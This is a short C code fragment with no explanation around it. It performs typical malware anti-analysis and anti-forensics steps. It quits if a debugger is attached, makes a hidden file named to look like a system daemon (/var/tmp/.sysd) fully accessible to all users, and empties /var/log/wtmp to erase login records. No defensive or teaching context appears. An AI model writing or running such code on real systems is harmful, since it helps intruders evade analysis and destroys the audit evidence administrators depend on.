if (ptrace(PTRACE_TRACEME, 0, 0, 0) == -1) {
    _exit(0);
}
chmod("/var/tmp/.sysd", S_IRWXU | S_IRWXG | S_IRWXO);
truncate("/var/log/wtmp", 0);
